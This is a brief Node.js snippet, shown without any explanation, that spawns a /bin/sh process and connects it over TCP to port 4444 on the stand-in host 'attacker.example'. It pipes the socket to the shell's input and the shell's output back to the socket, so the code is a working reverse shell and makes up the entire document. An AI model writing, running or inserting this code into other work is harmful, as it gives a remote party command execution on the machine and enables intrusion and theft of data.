const net = require('net');
const { spawn } = require('child_process');
const sh = spawn('/bin/sh', []);
const c = net.connect(4444, 'attacker.example', () => {
  c.pipe(sh.stdin);
  sh.stdout.pipe(c);
});
